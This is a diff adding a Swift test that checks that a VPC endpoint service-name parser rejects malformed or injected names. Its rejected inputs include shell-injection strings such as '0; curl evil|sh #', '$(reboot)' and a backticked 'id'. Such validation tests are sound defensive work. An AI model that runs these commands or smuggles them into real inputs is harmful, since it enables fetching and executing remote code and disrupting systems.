@@ -54,6 +54,16 @@ import Wire
     #expect(message.contains(why), "\(message)")
   }
 
+  @Test func aServicesNameHasNothingThatAShellObeys() {
+    #expect(VPCEndpointService(serviceName)?.text == serviceName)
+    #expect(VPCEndpointService("cn.com.amazonaws.vpce.cn-north-1.VPCE-SVC-0a")?.id == "vpce-svc-0a")
+    for end in ["", " ", "0; curl evil|sh #", "$(reboot)", "0`id`", "0\n", "0'", "0\"", "<id>", "0\\", "0/a", "0_a"] {
+      #expect(VPCEndpointService("com.amazonaws.vpce.us-east-1.vpce-svc-\(end)") == nil, "\(end)")
+      #expect(VPCEndpointService("com.amazonaws.vpce.us-east-1\(end) .vpce-svc-0") == nil, "\(end)")
+    }
+    #expect(VPCEndpointService("com.amazonaws.vpce.$(reboot).vpce-svc-0") == nil)
+  }
+
   @Test func refusesNothingAtAll() {
     #expect(refusal { _ = try readEndpoint(nil) }.hasPrefix("no endpoint: give the VPC endpoint's DNS name"))
     #expect(refusal { _ = try readEndpoint(nil) }.hasSuffix("until backroad link set-endpoint names one"))
